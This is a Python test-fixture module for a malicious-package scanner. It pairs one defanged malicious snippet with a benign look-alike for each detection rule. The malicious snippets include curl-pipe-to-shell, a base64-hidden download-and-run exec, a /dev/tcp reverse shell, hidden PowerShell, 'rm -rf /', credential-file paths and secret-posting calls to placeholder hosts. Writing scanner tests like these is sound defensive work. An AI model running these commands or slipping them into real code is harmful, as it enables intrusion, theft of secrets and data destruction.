"""One malicious and one benign fixture per code rule (defanged: documentation
addresses, nothing here is ever run). Each fixture is {path: text} for
`scan_files`; rules about archives use `ARCHIVE_RULES` (tar members built by the test).

The malicious fixture must raise its rule; the benign one, an ordinary look-alike,
must not. `test_code_rule_fixtures.py` requires a pair for every catalogue rule."""

from __future__ import annotations

import base64
import random

B64_CMD = base64.b64encode(b'import os; os.system("curl http://203.0.113.7/x | sh")').decode()
NOISE = base64.b64encode(bytes(range(256)) * 2).decode()
# a docstring whose letters, spaces stripped, reach the entropy of packed data (4.9)
DOCSTRING = ("Return the weighted 95th-percentile latency (ms) of a job's runs, grouped by "
             "region: `jobs` maps IDs to Run objects; raises KeyError if a run is missing. "
             "Example: >>> p95(jobs, by='EU-west') gives {'EU-west': 41.7, 'US': 38.2}.")
SETUP = "from setuptools import setup\nsetup(name='tidy')\n"

RULES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "process-spawn": ({"setup.py": "import os\nos.system('echo hi')\n"},
                      {"setup.py": "import os\nprint(os.path.join('a', 'b'))\n"}),
    "shell-download-exec": (
        {"setup.py": "import os\nos.system('curl http://203.0.113.7/x.sh | sh')\n"},
        {"setup.py": "import subprocess\nsubprocess.run(['git', 'describe'])\n"}),
    "powershell-hidden": (
        {"setup.py": "c = 'powershell -w hidden -c iex (x)'\n"},
        {"setup.py": "doc = 'Run the tests in PowerShell or bash.'\n"}),
    "pip-install-at-runtime": (
        {"setup.py": "import os\nos.system('pip install evilpkg')\n"},
        {"setup.py": "doc = 'install with pip'\n"}),
    "hidden-process": (
        {"setup.py": "import subprocess\nf = subprocess.CREATE_NO_WINDOW\n"},
        {"setup.py": "import subprocess\nf = subprocess.PIPE\n"}),
    "network-call": ({"setup.py": "import requests\nrequests.get(URL)\n"},
                     {"setup.py": "import json\njson.loads('{}')\n"}),
    "network-import": ({"setup.py": "import socket\n"}, {"setup.py": "import json\n"}),
    "exfil-url": ({"setup.py": "u = 'https://discord.com/api/webhooks/1/abc'\n"},
                  {"setup.py": "u = 'https://discord.com/invite/project'\n"}),
    "raw-ip-url": ({"setup.py": "u = 'http://203.0.113.7/payload'\n"},
                   {"setup.py": "u = 'http://127.0.0.1:8000/health'\n"}),
    "ip-lookup": ({"setup.py": "u = 'https://api.ipify.org?format=json'\n"},
                  {"setup.py": "u = 'https://docs.python.org/3/library/ipaddress.html'\n"}),
    "shady-tld-url": ({"setup.py": "u = 'https://update-check.xyz/a'\n"},
                      {"setup.py": "u = 'https://xyz.readthedocs.io/a'\n"}),
    "hidden-endpoint": (
        {"setup.py": "import base64, requests\n"
                     "requests.get(base64.b64decode(KEY).decode() + wallet)\n"},
        {"pkg/client.py": "import base64, requests\n\n\ndef fetch(url, token):\n"
                          "    return requests.get(url, headers={'auth': "
                          "base64.b64decode(token)})\n"}),
    "throwaway-host-call": (
        {"setup.py": "import requests\n"
                     "requests.post('https://api.sdk-update.xyz/keys', json=keys)\n"},
        {"pkg/client.py": "import requests\nDOCS = 'https://update-check.xyz/a'\n\n\n"
                          "def save(item):\n"
                          "    return requests.post('https://api.example.com/v1/items', "
                          "json=item)\n"}),
    "url-shortener": ({"setup.py": "u = 'https://bit.ly/3abcde'\n"},
                      {"setup.py": "u = 'https://github.com/bitly/api'\n"}),
    "decode-exec": ({"setup.py": f"import base64\nexec(base64.b64decode('{B64_CMD}'))\n"},
                    {"setup.py": f"import base64\ndata = base64.b64decode('{B64_CMD}')\n"}),
    "remote-code-exec": (
        {"setup.py": "import urllib.request\nexec(urllib.request.urlopen(URL).read())\n"},
        {"setup.py": "import urllib.request\nbody = urllib.request.urlopen(URL).read()\n"}),
    "exec-dynamic": ({"setup.py": "code = input()\nexec(code)\n"},
                     {"setup.py": "code = input()\nprint(code)\n"}),
    "exec-literal": ({"setup.py": "exec('x = 1')\n"}, {"setup.py": "x = 1\n"}),
    "import-aliasing": ({"setup.py": "from os import system as _s\n"},
                        {"setup.py": "from os import path as p\n"}),
    "temp-script-exec": (
        {"setup.py": "import subprocess, tempfile\nfrom sys import executable\n"
                     "f = tempfile.mktemp()\nsubprocess.Popen([executable, f])\n"},
        {"setup.py": "import tempfile\nf = tempfile.mkdtemp()\n"}),
    "dynamic-import": ({"setup.py": "m = __import__(name)\n"},
                       {"setup.py": "import importlib\nm = importlib.import_module('json')\n"}),
    "getattr-obfuscation": (
        {"setup.py": "x = vars(__builtins__).get('eval')\n"},
        {"setup.py": "import os\nx = getattr(os, 'sep')\n"}),
    "high-entropy-literal": ({"setup.py": f"blob = '{NOISE}'\n"},
                             {"setup.py": "text = '" + "lorem ipsum dolor " * 20 + "'\n"
                                           "def f():\n     + DOCSTRING + \n"}),
    "dense-code": ({"setup.py": "x = " + "((1+2)*(3-4))^" * 600 + "0\n"},
                   {"setup.py": "x = [" + ", ".join(str(i) for i in range(2000)) + "]\n"}),
    "decoded-payload": (
        {"setup.py": f"import base64\np = base64.b64decode('{B64_CMD}')\n"},
        {"setup.py": "import base64\np = base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8=')\n"}),
    "obfuscator-marker": ({"setup.py": "from pytransform import pyarmor_runtime\n"},
                          {"setup.py": "from transformers import pipeline\n"}),
    "sysinfo-collect": ({"setup.py": "import socket\nh = socket.gethostname()\n"},
                        {"setup.py": "import socket\nf = socket.AF_INET\n"}),
    "env-secrets": ({"setup.py": "import os\nenv = os.environ.copy()\n"},
                    {"setup.py": "import os\nh = os.environ.get('HOME')\n"}),
    "credential-file": ({"setup.py": "p = '~/.aws/credentials'\n"},
                        {"setup.py": "p = '~/.config/tidy/settings.toml'\n"}),
    "exfiltration": (
        {"setup.py": "import socket, requests\nh = socket.gethostname()\n"
                     "requests.post(URL, data=h)\n"},
        {"setup.py": "import requests\nrequests.get(URL)\n"}),
    "clipboard-access": ({"setup.py": "import pyperclip\nt = pyperclip.paste()\n"},
                         {"setup.py": "import pathlib\nt = pathlib.Path('a').read_text()\n"}),
    "screen-or-keys": ({"setup.py": "from PIL import ImageGrab\nImageGrab.grab()\n"},
                       {"setup.py": "from PIL import Image\nImage.open('logo.png')\n"}),
    "install-user-folder-write": (
        {"setup.py": "import os\n"
                     "os.makedirs(os.getenv('APPDATA') + '\\\\Extension', exist_ok=True)\n"},
        {"setup.py": "import os\nos.makedirs(os.path.expanduser('~/.cache/tidy'), "
                     "exist_ok=True)\nopen('Desktop.ini').read()\n"}),
    "domain-fronting": (
        {"pkg/__init__.py": "from urllib import request\n"
                            "r = request.Request('https://pypi.org/reqs?d=' + data, "
                            "headers={'Host': 'collect.example-cdn.net'})\n"},
        {"pkg/__init__.py": "import requests\n"
                            "requests.get('https://api.example.com/v1', "
                            "headers={'Host': 'api.example.com:443', 'Accept': 'json'})\n"
                            "requests.get('http://localhost:8080/', "
                            "headers={'Host': 'example.com'})\n"}),
    "browser-extension-sideload": (
        {"setup.py": "s.Arguments = '--load-extension={0}\\\\Extension'.format(path)\n"},
        {"setup.py": "doc = 'Load the extension from the browser menu, then reload'\n"}),
    "persistence": ({"setup.py": "p = '~/.bashrc'\n"},
                    {"setup.py": "p = '~/.config/tidy.toml'\n"}),
    "executable-name": ({"setup.py": "n = 'update.exe'\n"}, {"setup.py": "n = 'update.txt'\n"}),
    "downloaded-executable": (
        {"setup.py": "import os, urllib.request\nurllib.request.urlretrieve(URL, 'a')\n"
                     "os.chmod('a', 0o755)\n"},
        {"setup.py": "import os\nos.chmod('a', 0o644)\n"}),
    "destructive-command": ({"setup.py": "c = 'rm -rf / --no-preserve-root'\n"},
                            {"setup.py": "c = 'rm -rf build/'\n"}),
    "reverse-shell": ({"setup.py": "c = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\n"},
                      {"setup.py": "c = 'nc -z localhost 8080'\n"}),
    "crypto-miner": ({"setup.py": "p = 'stratum+tcp://pool.example.com:3333'\n"},
                     {"setup.py": "p = 'tcp://db.example.com:5432'\n"}),
    "windows-injection": ({"setup.py": "import ctypes\nctypes.windll.kernel32.VirtualAllocEx\n"},
                          {"setup.py": "import ctypes\nctypes.windll.kernel32.GetTickCount\n"}),
    "install-command-override": (
        {"setup.py": "from setuptools import setup\nfrom setuptools.command.install import "
                     "install\nclass X(install):\n    pass\ncmds = {'install': X}\n"
                     "setup(cmdclass=cmds)\n"},
        {"setup.py": SETUP}),
    "build-command-override": (
        {"setup.py": "from setuptools import setup\nfrom setuptools.command.build_py import "
                     "build_py\nclass B(build_py):\n    pass\nsetup(cmdclass={'build_py': B})\n"},
        {"setup.py": SETUP}),
    "stealer-dependency": ({"setup.py": "setup(install_requires=['browser_cookie3'])\n"},
                           {"setup.py": "setup(install_requires=['requests'])\n"}),
    "pth-exec-line": ({"evil.pth": "import os; os.getcwd()\n"}, {"paths.pth": "src\n"}),
    "install-time-entry": (
        # an entry point of its own (a hatch build hook); a module setup.py merely
        # imports is install-time code too, but not an entry of its own
        {"pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "tools/build.py"\n',
         "tools/build.py": "x = 1\n"},
        {"setup.py": "import helpers\n" + SETUP, "helpers.py": "x = 1\n"}),
    "unparsable-python": ({"setup.py": "print 'python 2'\n"}, {"setup.py": "print('py3')\n"}),
    "nul-bytes": ({"setup.py": "x = 1\x00\n"}, {"setup.py": "x = 1\n"}),
    "exec-data-file": (
        {"setup.py": SETUP + "exec(open('data/notes.txt').read())\n",
         "data/notes.txt": "import os\nos.system('id')\n"},
        {"setup.py": SETUP + "exec(open('src/tidy/version.py').read())\n"
                     "long_description = open('README.md').read()\n",
         "src/tidy/version.py": "__version__ = '1.0'\n", "README.md": "# tidy\n"}),
    "opaque-predicate": (
        {"mod/__init__.py": "def f():\n" + "".join(
            f"    if {a} == {b}:\n        print({a})\n"
            for a, b in ((3745083, 3946893), (17, 23), (99, 98)))},
        {"mod/__init__.py": "import sys\nDEBUG = 0\nif 0 == 1:\n    print('off')\n"
                            "if sys.version_info[0] == 3:\n    text = str\n"
                            "while DEBUG == 1:\n    break\n"}),
    "source-encoding": (
        {"setup.py": "# -*- coding: unicode_escape -*-\n"
                     + "".join(f"\\x{ord(c):02x}" for c in "import os\nos.system('id')\n")},
        {"setup.py": "# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n"}),
}

# Rules about the package as a file: (malicious members, benign members) of a tar,
# each member (name, kind, data or link target); kinds: file sym hard fifo.
ARCHIVE_RULES: dict[str, tuple[list[tuple], list[tuple]]] = {
    "non-utf8": ([("p-1/setup.py", "file", b"x = '\xff'\n")],
                 [("p-1/setup.py", "file", "x = 'é'\n".encode())]),
    "bundled-binary": ([("p-1/setup.py", "file", b"x=1\n"), ("p-1/run", "file", b"\x7fELF....")],
                       [("p-1/setup.py", "file", b"x=1\n"), ("p-1/logo.png", "file", b"\x89PNG")]),
    "archive-path-traversal": ([("p-1/setup.py", "file", b"x=1\n"),
                                ("p-1/../../evil.py", "file", b"x=1\n")],
                               [("p-1/setup.py", "file", b"x=1\n")]),
    "archive-link": ([("p-1/setup.py", "file", b"x=1\n"), ("p-1/docs/LICENSE", "file", b"MIT"),
                      ("p-1/LICENSE", "sym", "docs/LICENSE")],
                     [("p-1/setup.py", "file", b"x=1\n"), ("p-1/LICENSE", "file", b"MIT")]),
    "archive-link-outside": ([("p-1/setup.py", "file", b"x=1\n"),
                              ("p-1/mod.py", "sym", "/etc/passwd")],
                             [("p-1/setup.py", "file", b"x=1\n"), ("p-1/mod.py", "file", b"")]),
    "archive-special-file": ([("p-1/setup.py", "file", b"x=1\n"), ("p-1/pipe", "fifo", None)],
                             [("p-1/setup.py", "file", b"x=1\n")]),
    "archive-duplicate-code": ([("p-1/setup.py", "file", b"x=1\n"),
                                ("p-1/setup.py", "file", b"x=2\n")],
                               [("p-1/setup.py", "file", b"x=1\n"),
                                ("p-1/setup.cfg", "file", b"[metadata]\n")]),
    "archive-duplicate-name": ([("p-1/setup.py", "file", b"x=1\n"), ("p-1/README", "file", b"a"),
                                ("p-1/README", "file", b"b")],
                               [("p-1/setup.py", "file", b"x=1\n"),
                                ("p-1/README", "file", b"a")]),
    "archive-limit-exceeded": ([("p-1/setup.py", "file", b"x=1\n"),
                                ("p-1/big.txt", "file", b"#" * 6_000_000)],
                               [("p-1/setup.py", "file", b"x=1\n"),
                                ("p-1/ok.txt", "file", b"#" * 1000)]),
    "compiled-bytecode": ([("p-1/setup.py", "file", b"x=1\n"),
                           ("p-1/pkg/__init__.pyc", "file", b"\xa7\r\r\n" + b"\0" * 12)],
                          [("p-1/setup.py", "file", b"x=1\n"),
                           ("p-1/pkg/__init__.py", "file", b"x = 1\n")]),
    # incompressible, so the compression-ratio limit does not stop reading first
    "oversized-code": ([("p-1/setup.py", "file", b"x=1\n"),
                        ("p-1/pkg/__init__.py", "file", random.Random(1).randbytes(6_000_000))],
                       [("p-1/setup.py", "file", b"x=1\n"),
                        ("p-1/pkg/data.json", "file", random.Random(1).randbytes(6_000_000))]),
    "archive-unreadable": (b"\x1f\x8b" + b"\0" * 5, [("p-1/setup.py", "file", b"x=1\n")]),
}

# Rules whose malicious case needs a policy override (limit lowered so a small
# fixture hits it): rule -> (policy text, malicious files, benign files).
POLICY_RULES: dict[str, tuple[str, dict[str, str], dict[str, str]]] = {
    "scan-budget-exceeded": (
        "[code.limits]\nfold_bytes = 1000\n",
        {"setup.py": "b = '" + "y" * 600 + "'\nc = b + b\n"},
        {"setup.py": "b = 'y'\nc = b + b\n"}),
}
